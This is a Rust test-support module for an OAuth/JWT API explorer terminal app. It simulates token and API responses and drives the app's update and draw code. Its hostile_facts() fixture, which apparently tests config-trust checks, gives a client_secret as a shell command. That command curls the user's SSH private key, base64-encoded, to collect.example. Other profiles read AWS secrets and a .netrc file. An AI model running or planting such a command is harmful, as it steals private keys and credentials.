//! The explorer on a stage: the real state and the real `update`, keys pressed, and what the engine would send back
//! built from plain values with the real judge and the real diagnosis.

use std::sync::Arc;
use std::time::Duration;

use base64::Engine as _;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use jiff::Timestamp;
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;
use serde_json::{Value, json};

use crate::audit::{Evidence, Permissions, diagnose, expect, judge, token_advice};
use crate::config;
use crate::engine::{Answer, Failure, HeldToken, ProbeAsk, SendAs, TokenAsk};
use crate::exchange::{Completeness, Exchange, NoAnswer, Request, Response, Secret, Text};
use crate::jwt::{Check, CheckName, KeyUsed, Outcome, Token, Verdict};
use crate::oauth::{ScopeSet, TokenRequest, read_token_response};
use crate::tui::body::Body;
use crate::tui::draw::draw;
use crate::tui::effect::Effect;
use crate::tui::message::Message;
use crate::tui::state::{Look, Origin, Size, State};
use crate::tui::update::update;

/// What the provider and the API do on this stage.
#[derive(Clone)]
pub(super) struct Server {
    /// Nothing listens.
    pub provider_down: bool,
    pub api_down: bool,
    /// Members laid over the claims.
    pub claims: Value,
    /// A body in place of the API's own, with its media type.
    pub body: Option<(Vec<u8>, &'static str)>,
    /// A status in place of the API's own.
    pub status: Option<u16>,
    /// Checks that come out otherwise: name, outcome, detail.
    pub checks: Vec<(CheckName, Outcome, &'static str)>,
    /// A token of the provider's own making.
    pub token: Option<&'static str>,
}

pub(super) struct Stage {
    pub state: State,
    pub server: Server,
}

/// A file that would do a bit of everything.
pub(super) fn hostile_facts() -> config::trust::Facts {
    let text = r#"
[providers.shop]
issuer = "https://login.shop.example/realms/shop"
ca = "certs/shop.pem"
proxy = "http://proxy.shop.example:3128"
[apis.shop]
provider = "shop"
base_url = "http://api.shop.example"
plaintext = true
insecure = true
[profiles.backend]
provider = "shop"
client_id = "backend"
client_secret = { command = ["sh", "-c", "curl -s https://collect.example/?k=$(cat ~/.ssh/id_ed25519 | base64 -w0)"] }
[profiles.batch]
provider = "shop"
client_id = "batch"
client_secret = { env = "AWS_SECRET_ACCESS_KEY" }
[profiles.other]
provider = "shop"
client_id = "other"
client_secret = { file = "../../.netrc" }
"#;
    config::trust::facts(&config::Layers { shared: text.as_bytes(), ..config::Layers::default() })
}

pub(super) fn at(text: &str) -> Timestamp {
    format!("2026-11-23T{text}Z").parse().unwrap()
}

impl Stage {
    pub(super) fn new() -> Self {
        let origin = Origin { label: "built-in demo".into(), ..Origin::default() };
        let size = Size { width: 120, height: 36 };
        let profiles = Arc::new(config::demo());
        let state = State::new(profiles, origin, Look::default(), at("21:53:51"), size);
        let server = Server {
            provider_down: false,
            api_down: false,
            claims: json!({}),
            body: None,
            status: None,
            checks: Vec::new(),
            token: None,
        };
        Self { state, server }
    }

    /// Presses keys, and lets each effect come to its end at once.
    pub(super) fn press(&mut self, keys: &str) -> &mut Self {
        for key in keys.split(' ') {
            for effect in self.press_only(key) {
                self.carry_out(effect);
            }
        }
        self
    }

    /// Presses keys and leaves the effects under way.
    pub(super) fn press_only(&mut self, keys: &str) -> Vec<Effect> {
        keys.split(' ').flat_map(|name| update(&mut self.state, Message::Key(key(name)))).collect()
    }

    pub(super) fn wait(&mut self, seconds: u64) -> &mut Self {
        self.state.now += Duration::from_secs(seconds);
        let effects = update(&mut self.state, Message::Wake);
        for effect in effects {
            self.carry_out(effect);
        }
        self
    }

    fn carry_out(&mut self, effect: Effect) {
        let message = match effect {
            Effect::Fetch { run, ask } => Message::Token { run, result: self.token(&ask) },
            Effect::Probe { run, ask } => {
                let answer = self.answer(&ask);
                let body = answer.exchange.response().map(Body::of).unwrap_or_default();
                Message::Answer { run, result: Ok((Arc::new(answer), Arc::new(body))) }
            }
            _ => return,
        };
        for effect in update(&mut self.state, message) {
            self.carry_out(effect);
        }
    }

    fn exchange(&self, request: Request, outcome: Result<Response, NoAnswer>) -> Exchange {
        Exchange {
            request,
            outcome,
            started: self.state.now,
            elapsed: Duration::from_micros(3_200),
            to_head: Some(Duration::from_micros(2_900)),
            notes: Vec::new(),
        }
    }

    pub(super) fn token(&self, ask: &TokenAsk) -> Result<Arc<HeldToken>, Failure> {
        let profile = self.state.profiles.profile(&ask.profile).unwrap();
        let provider = self.state.profiles.provider(&profile.provider).unwrap();
        let scopes = ask.changes.scopes.clone().unwrap_or_else(|| profile.scopes.clone());
        let secret = Secret::new("demo-secret");
        let request = TokenRequest {
            endpoint: "http://localhost:8001/realms/myorg/protocol/openid-connect/token",
            client: crate::oauth::Client { id: &profile.client_id, secret: Some(&secret), auth: profile.auth },
            by: crate::oauth::TokenBy::ClientCredentials,
            scopes: &scopes,
            audience: None,
            params: &[],
        }
        .build();
        if self.server.provider_down {
            let error = NoAnswer::Refused { address: "localhost:8001".into(), tried: Vec::new() };
            let exchange = Arc::new(self.exchange(request, Err(error.clone())));
            return Err(Failure::NoAnswer { exchange, error });
        }
        let granted: ScopeSet = ["profile", "email"].into_iter().chain(scopes.iter()).collect();
        let life = if profile.name == "short-lived" { 10 } else { 300 };
        let response = if profile.name == "wrong-secret" {
            let refusal = json!({
                "error": "unauthorized_client",
                "error_description": "Invalid client or Invalid client credentials",
            });
            json_response(401, &refusal)
        } else {
            let token =
                self.server.token.map_or_else(|| self.sign(profile.client_id.as_str(), &granted, life), str::to_owned);
            json_response(
                200,
                &json!({
                    "access_token": token, "expires_in": life, "refresh_expires_in": 0, "token_type": "Bearer",
                    "not-before-policy": 0, "scope": granted.to_string(),
                }),
            )
        };
        let exchange = Arc::new(self.exchange(request, Ok(response.clone())));
        let granted = read_token_response(&response).map_err(|refusal| {
            let advice = token_advice(&refusal, profile);
            Failure::TokenRefused { exchange: exchange.clone(), refusal, advice }
        })?;
        let token = Token::of(&granted.access_token);
        let before = self.state.views.iter().find(|view| view.name == profile.name);
        let before = before.and_then(|view| view.token.held.as_ref()).map(|held| held.token.fingerprint());
        Ok(Arc::new(HeldToken {
            profile: profile.name.clone(),
            provider: provider.name.clone(),
            environment: None,
            verdict: self.verdict(&token),
            token,
            granted,
            asked: scopes,
            changes: ask.changes.clone(),
            received: self.state.now,
            exchange: Some(exchange),
            keys_fetched: Some(self.state.now - Duration::from_secs(12)),
            before,
            which: crate::engine::Which::Access,
            gained: crate::engine::Gained::ClientCredentials,
            id_token: None,
        }))
    }

    fn verdict(&self, token: &Token) -> Verdict {
        let check = |name| {
            let (outcome, detail) = match name {
                CheckName::Signature => (Outcome::Pass, "holds with the key 7Qx2"),
                CheckName::Exp => (Outcome::Pass, "ends in 5 min"),
                CheckName::Nbf => (Outcome::Skipped, "no nbf: it holds from the moment it was issued"),
                CheckName::Iss => (Outcome::Pass, "http://localhost:8001/realms/myorg"),
                CheckName::Aud => (Outcome::Skipped, "no audience expected; aud is account"),
                _ => (Outcome::Pass, "as it should be"),
            };
            let otherwise = self.server.checks.iter().find(|(other, ..)| *other == name);
            let (outcome, detail) = otherwise.map_or((outcome, detail), |(_, outcome, detail)| (*outcome, *detail));
            Check { name, outcome, detail: detail.to_owned() }
        };
        let checks: Vec<Check> = CheckName::ALL.map(check).into();
        let key = KeyUsed { kid: token.kid().map(str::to_owned), alg: "RS256".into(), thumbprint: None };
        Verdict {
            valid: Some(checks.iter().all(|check| check.outcome != Outcome::Fail)),
            checks,
            key: token.kid().map(|_| key),
            changes_at: token.expires_at(),
        }
    }

    /// A token of Keycloak's shape; nobody signed it.
    pub(super) fn sign(&self, client: &str, scopes: &ScopeSet, life: i64) -> String {
        let iat = self.state.now.as_second();
        let mut claims = json!({
            "exp": iat + life, "iat": iat, "jti": "trrtcc:f60fa4a6-f6df-71c3-7b14-0a4a5a7b0c1d",
            "iss": "http://localhost:8001/realms/myorg", "aud": "account",
            "sub": "0b7c2f0e-3f4a-4a53-9c86-0c5d5f0f5a11", "typ": "Bearer", "azp": client, "acr": "1",
            "realm_access": {"roles": ["default-roles-myorg", "offline_access", "uma_authorization"]},
            "resource_access": {"account": {"roles": ["manage-account", "view-profile"]}},
            "scope": scopes.to_string(), "email_verified": false, "clientHost": "127.0.0.1",
            "preferred_username": format!("service-account-{client}"), "clientAddress": "127.0.0.1",
            "client_id": client,
        });
        for (name, value) in self.server.claims.as_object().into_iter().flatten() {
            claims[name] = value.clone();
        }
        let header = json!({"alg": "RS256", "typ": "JWT", "kid": "7Qx2mJr0h1Zk8sT5uV6wX9yA2bC3dE4fG5hI6jK7lM8"});
        let part = |value: &Value| BASE64_URL_SAFE_NO_PAD.encode(value.to_string());
        let signature: String = "c2lnbmF0dXJlIGluIHRoZSB0ZXN0IGlzIG5vIHNpZ25hdHVyZQ".repeat(6);
        format!("{}.{}.{signature}", part(&header), part(&claims))
    }

    fn answer(&self, ask: &ProbeAsk) -> Answer {
        let profiles = self.state.profiles.clone();
        let profile = profiles.profile(&ask.profile).unwrap();
        let (api, endpoint) =
            profiles.endpoints_of(profile).find(|(_, endpoint)| endpoint.name == ask.endpoint.endpoint).unwrap();
        let held = self.state.views.iter().find(|view| view.name == ask.profile).unwrap().token.held.clone();
        let token = match &ask.send_as {
            SendAs::Nothing => None,
            SendAs::Token(token) => Some(token.clone()),
            SendAs::Profile if endpoint.is_public() => None,
            SendAs::Profile => held,
        };
        let mut request = Request::new("GET", format!("{}{}", api.base_url, endpoint.path)).header("Accept", "*/*");
        if let Some(token) = &token {
            request = request.header("Authorization", Text::bearer(&token.granted.access_token));
        }
        let scopes = token.as_ref().map(|token| token.scopes());
        let outcome = if self.server.api_down {
            Err(NoAnswer::Refused { address: "localhost:50100".into(), tried: Vec::new() })
        } else {
            Ok(self.respond(endpoint, scopes.as_ref()))
        };
        let exchange = self.exchange(request, outcome);
        let permissions = scopes.as_ref().map(|scopes| Permissions { scopes, roles: &[] });
        let expected = expect(endpoint, profile, permissions);
        let judgement = match exchange.status() {
            Some(status) => judge(expected, endpoint, status),
            None => crate::audit::Judgement { expected, class: None, as_expected: Some(false), warning: None },
        };
        let diagnosis = diagnose(&Evidence {
            exchange: &exchange,
            endpoint,
            api,
            provider: profiles.provider(&profile.provider).unwrap(),
            profile,
            token: token.as_ref().map(|token| &token.token),
            verdict: token.as_ref().map(|token| &token.verdict),
            asked: token.as_ref().map(|token| &token.asked),
            granted: token.as_ref().and_then(|token| token.granted.scope.as_ref()),
            token_call: token.as_ref().and_then(|token| token.exchange.as_deref()),
            metadata: None,
            now: self.state.now,
        });
        Answer {
            profile: profile.name.clone(),
            environment: ask.environment.clone(),
            endpoint: ask.endpoint.clone(),
            exchange: Arc::new(exchange),
            token,
            judgement,
            diagnosis,
            at: self.state.now,
        }
    }

    fn respond(&self, endpoint: &config::Endpoint, scopes: Option<&ScopeSet>) -> Response {
        let wanted = endpoint.wanted_scopes();
        let realm = "Bearer realm=\"myorg\"";
        let mut response = match scopes {
            _ if endpoint.is_public() => json_response(200, &json!({"message": "Hello from a public endpoint."})),
            None => {
                let body = json!({"error": "missing_authorization", "error_description": "There is no token."});
                challenged(401, &body, realm)
            }
            Some(scopes) if scopes.missing(&wanted).is_empty() => json_response(
                200,
                &json!({"message": "Hello from a private endpoint.", "scopes": scopes.iter().collect::<Vec<_>>(), "count": 3, "ok": true, "nothing": null}),
            ),
            Some(_) => {
                let text = "The token provided has insufficient scopes for this resource.";
                let body = json!({"error": "insufficient_scope", "error_description": text});
                let challenge =
                    format!("{realm}, error=\"insufficient_scope\", error_description=\"{text}\", scope=\"{wanted}\"");
                challenged(403, &body, &challenge)
            }
        };
        if let Some((body, media)) = &self.server.body {
            response.body.clone_from(body);
            response.headers = vec![("Content-Type".into(), (*media).into())];
        }
        response.status = self.server.status.unwrap_or(response.status);
        response
    }

    /// The screen at this size.
    pub(super) fn draw(&mut self, width: u16, height: u16) -> Buffer {
        self.state.size = Size { width, height };
        let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
        let now = self.state.now;
        terminal.draw(|frame| draw(&self.state, now, frame)).unwrap();
        terminal.backend().buffer().clone()
    }

    /// Draws at this size and takes in what stands where, for clicks.
    pub(super) fn see(&mut self, width: u16, height: u16) {
        self.state.size = Size { width, height };
        let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
        let (state, now, mut seen) = (&self.state, self.state.now, None);
        terminal.draw(|frame| seen = Some(crate::tui::draw::paint(state, now, frame))).unwrap();
        self.state.saw(seen.unwrap());
    }

    /// The same as text, without the blanks at the ends of lines.
    pub(super) fn text(&mut self, width: u16, height: u16) -> String {
        text_of(&self.draw(width, height))
    }
}

pub(super) fn text_of(buffer: &Buffer) -> String {
    let mut out = String::new();
    for y in 0..buffer.area.height {
        let mut line = String::new();
        let mut skip = 0;
        for x in 0..buffer.area.width {
            let symbol = buffer[(x, y)].symbol();
            if skip == 0 {
                line.push_str(symbol);
                skip = unicode_width::UnicodeWidthStr::width(symbol);
            }
            skip = skip.saturating_sub(1);
        }
        out.push_str(line.trim_end());
        out.push('\n');
    }
    out
}

fn json_response(status: u16, body: &Value) -> Response {
    let body = body.to_string().into_bytes();
    Response {
        status,
        headers: vec![
            ("Content-Type".into(), "application/json".into()),
            ("Content-Length".into(), body.len().to_string()),
            ("Date".into(), "Mon, 23 Nov 2026 21:53:51 GMT".into()),
        ],
        body,
        completeness: Completeness::Whole,
    }
}

fn challenged(status: u16, body: &Value, challenge: &str) -> Response {
    let mut response = json_response(status, body);
    response.headers.push(("WWW-Authenticate".into(), challenge.into()));
    response
}

fn key(name: &str) -> KeyEvent {
    let plain = |code| KeyEvent::new(code, KeyModifiers::NONE);
    match name {
        "Enter" => plain(KeyCode::Enter),
        "Esc" => plain(KeyCode::Esc),
        "Tab" => plain(KeyCode::Tab),
        "Left" => plain(KeyCode::Left),
        "Right" => plain(KeyCode::Right),
        "Up" => plain(KeyCode::Up),
        "Down" => plain(KeyCode::Down),
        "Space" => plain(KeyCode::Char(' ')),
        _ => match name.strip_prefix("Ctrl-") {
            Some(letter) => {
                KeyEvent::new(KeyCode::Char(letter.to_lowercase().chars().next().unwrap()), KeyModifiers::CONTROL)
            }
            None => plain(KeyCode::Char(name.chars().next().unwrap())),
        },
    }
}
